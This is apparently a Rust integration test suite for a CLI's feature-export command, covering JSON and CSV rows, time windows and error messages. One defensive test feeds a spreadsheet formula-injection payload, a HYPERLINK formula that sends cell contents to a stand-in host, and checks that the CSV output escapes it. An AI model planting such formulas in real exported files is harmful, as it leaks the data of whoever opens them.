//! `headwater features export` as a data team meets it: rows of a stored log as JSON and as CSV, and what it says when it cannot.
#![allow(clippy::unwrap_used, reason = "what a test expects, it unwraps, in its functions too")]

use std::{
    fs,
    path::{Path, PathBuf},
    process::{Command, Output},
};

use serde_json::{Value, json};

const RULES: &str = r#"
[features.bought]
on = "Bought"
count = true
[features.what]
on = "Bought"
distinct = "event.properties.what"
[features.of_account]
on = "Bought"
per = "account"
count = true
"#;

fn headwater(arguments: &[&str]) -> Output {
    let mut command = Command::new(env!("CARGO_BIN_EXE_headwater"));
    command.args(arguments).env("HEADWATER_LOG", "warn").output().unwrap()
}

struct World {
    folder: tempfile::TempDir,
}

impl World {
    /// A data folder with these events, imported, and a folder of rules.
    fn new(events: &[Value]) -> Self {
        let world = Self { folder: tempfile::tempdir().unwrap() };
        fs::create_dir(world.path("rules")).unwrap();
        fs::write(world.path("rules/features.toml"), RULES).unwrap();
        let lines: Vec<String> = events.iter().map(ToString::to_string).collect();
        fs::write(world.path("events.ndjson"), lines.join("\n")).unwrap();
        let (data, events) = (world.path("data"), world.path("events.ndjson"));
        let imported = headwater(&["import", text(&data), text(&events), "--source", "web"]);
        assert!(imported.status.success(), "{imported:?}");
        world
    }

    fn path(&self, name: &str) -> PathBuf {
        self.folder.path().join(name)
    }

    fn export(&self, arguments: &[&str]) -> Output {
        let (data, rules) = (self.path("data"), self.path("rules"));
        let export = ["features", "export", text(&data), "--rules", text(&rules)];
        headwater(&[&export, arguments].concat())
    }
}

fn text(path: &Path) -> &str {
    path.to_str().unwrap()
}

fn said(output: &Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

fn track(id: &str, event: &str, user: &str, what: &str, minute: u32) -> Value {
    json!({"type": "track", "event": event, "userId": user, "messageId": id, "properties": {"what": what},
           "timestamp": format!("2026-01-01T00:{minute:02}:00.000Z"), "context": {"groupId": "acme"}})
}

/// It was left at ten; what was bought at twenty came before that was told.
fn story() -> World {
    World::new(&[
        track("a", "Bought", "u-1", "a hat, \"red\"", 1),
        track("b", "Bought", "u-2", "shoes", 2),
        track("c", "Bought", "u-1", "a coat", 20),
        track("d", "Left", "u-1", "", 10),
        track("e", "Left", "u-2", "", 30),
    ])
}

#[test]
fn rows_of_an_event_have_nothing_in_them_that_came_later() {
    let world = story();
    let done = world.export(&["--on", "Left"]);
    assert!(done.status.success(), "{done:?}");
    let rows: Vec<Value> = String::from_utf8(done.stdout.clone())
        .unwrap()
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect();
    assert_eq!(rows.len(), 2, "{rows:?}");
    assert_eq!(rows[0]["features"], json!({"bought": 1, "what": ["a hat, \"red\""]}));
    assert_eq!((&rows[0]["userId"], &rows[0]["messageId"]), (&json!("u-1"), &json!("d")));
    assert_eq!(rows[0]["at"], "2026-01-01T00:10:00.000Z");
    assert_eq!(rows[1]["features"], json!({"bought": 1, "what": ["shoes"]}));
    assert_eq!(said(&done), "2 rows from 5 events\n");
    let done =
        world.export(&["--on", "Left", "--per", "account", "--from", "2026-01-01T00:30:00Z"]);
    let row: Value = serde_json::from_slice(&done.stdout).unwrap();
    assert_eq!((&row["account"], &row["features"]), (&json!("acme"), &json!({"of_account": 3})));
}

#[test]
fn of_several_events_each_row_says_which_one_it_is_of() {
    let page = json!({"type": "page", "name": "Pricing", "userId": "u-1", "messageId": "f",
                      "timestamp": "2026-01-01T00:40:00.000Z"});
    let known = json!({"type": "identify", "userId": "u-1", "messageId": "g",
                       "timestamp": "2026-01-01T00:50:00.000Z"});
    let world = World::new(&[track("d", "Left", "u-1", "", 10), page, known]);
    let done = world.export(&["--on", "Left", "--on", "page:*", "--on", "identify"]);
    let rows = String::from_utf8(done.stdout.clone()).unwrap();
    let rows = rows.lines().map(|line| serde_json::from_str::<Value>(line).unwrap());
    let names: Vec<_> = rows.map(|row| row["name"].clone()).collect();
    assert_eq!(names, [json!("Left"), json!("page:Pricing"), json!("identify")], "{done:?}");
}

#[test]
fn csv_has_a_line_of_names_whether_or_not_there_is_a_row() {
    let world = story();
    let names = "person,userId,account,at,event,messageId,name,features.bought,features.what\n";
    let done = world.export(&["--on", "Left", "--format", "csv", "--to", "2026-01-01T00:30:00Z"]);
    let csv = String::from_utf8(done.stdout).unwrap();
    let row = ",u-1,,2026-01-01T00:10:00.000Z,4,d,Left,1,\"[\"\"a hat, \\\"\"red\\\"\"\"\"]\"\n";
    let (person, rest) = csv.strip_prefix(names).unwrap().split_at(4);
    assert!(person.starts_with("p_") && rest == row, "{csv}");
    let done = world.export(&["--on", "Left", "--from", "2026-02-01T00:00:00Z", "--format", "csv"]);
    assert!(done.status.success(), "{done:?}");
    assert_eq!(String::from_utf8(done.stdout).unwrap(), names);
    // Of the one feature alone.
    let done = world.export(&["--on", "Nothing", "--format", "csv", "--feature", "bought"]);
    let csv = String::from_utf8(done.stdout).unwrap();
    assert!(csv.ends_with("messageId,name,features.bought\n"), "{csv}");
}

#[test]
fn moments_before_an_import_say_that_nobody_knew() {
    let world = story();
    let done = world.export(&["--at", "2026-01-01T01:00:00Z"]);
    assert!(done.status.success() && done.stdout.is_empty(), "{done:?}");
    assert!(said(&done).contains("5 events had happened by the last of the moments"), "{done:?}");
}

#[test]
fn what_cannot_be_done_is_said_with_what_to_do() {
    let world = story();
    for (arguments, code, message) in [
        (&["--at", "2999-01-01T00:00:00Z"][..], 1, "is still to come"),
        (
            &["--on", "Left", "--feature", "bougth"],
            1,
            "unknown feature `bougth`; did you mean `bought`? Expected one of `bought`, `what`",
        ),
        (&["--on", "page:"], 1, "`page:` is followed by a name"),
        (&[], 2, "--on"),
        (&["--on", "Left", "--at", "2026-01-01"], 2, "cannot be used with"),
        (&["--at", "yesterday"], 2, "write it as 2026-01-31T00:00:00Z"),
    ] {
        let done = world.export(arguments);
        assert_eq!(done.status.code(), Some(code), "{arguments:?}: {done:?}");
        assert!(said(&done).contains(message), "{arguments:?}: {}", said(&done));
        assert!(done.stdout.is_empty(), "{done:?}");
    }
    fs::rename(world.path("data"), world.path("moved")).unwrap();
    let done = world.export(&["--on", "Left"]);
    assert_eq!(done.status.code(), Some(1));
    assert!(said(&done).contains("name the data folder, the one that `log` is in"), "{done:?}");
}

/// Whoever opens the file in a spreadsheet carries nothing out that somebody has written into an event.
#[test]
fn a_text_that_is_a_formula_is_a_text_in_csv_and_itself_in_json() {
    let bad = "=HYPERLINK(\"https://x.example?\"&A1)";
    let world = World::new(&[
        track("a", "Left", bad, "", 1),
        track("b", "Left", "@SUM(1)", "", 2),
        { track("c", "Left", "+15550109999", "", 3) },
        track("-d", "Left", "-2+3", "", 4),
    ]);
    let done = world.export(&["--on", "Left", "--format", "csv", "--feature", "bought"]);
    let csv = String::from_utf8(done.stdout).unwrap();
    let mut rows = csv::Reader::from_reader(csv.as_bytes());
    let cells = rows.records().map(|row| row.unwrap());
    let cells: Vec<_> = cells.map(|row| (row[1].to_owned(), row[5].to_owned())).collect();
    let cell = |user: &str, id: &str| (user.to_owned(), id.to_owned());
    assert_eq!(
        cells,
        [
            cell(&format!("'{bad}"), "a"),
            cell("'@SUM(1)", "b"),
            cell("+15550109999", "c"),
            cell("'-2+3", "'-d"),
        ]
    );
    let done = world.export(&["--on", "Left", "--feature", "bought"]);
    let row: Value =
        serde_json::from_slice(done.stdout.split(|it| *it == b'\n').next().unwrap()).unwrap();
    assert_eq!(row["userId"], bad);
}

#[test]
fn a_name_that_there_is_not_is_said_with_the_one_that_was_meant() {
    let world = story();
    let tells = |arguments: &[&str], rows: usize, expected: &str| {
        let done = world.export(arguments);
        assert_eq!(done.status.code(), Some(1), "{done:?}");
        assert_eq!(String::from_utf8_lossy(&done.stdout).lines().count(), rows, "{done:?}");
        assert!(said(&done).contains(expected), "{}", said(&done));
    };
    // Of what is there the rows are written all the same.
    tells(
        &["--on", "Left", "--on", "Bougth"],
        2,
        "the log has no event `Bougth`; did you mean `Bought`?",
    );
    tells(&["--on", "page:Pricing"], 0, "the log has no event `page:Pricing`; nothing was");
    // There it is, and not in this time.
    let done = world.export(&["--on", "Left", "--from", "2026-02-01T00:00:00Z"]);
    assert!(done.status.success() && done.stdout.is_empty(), "{done:?}");
}
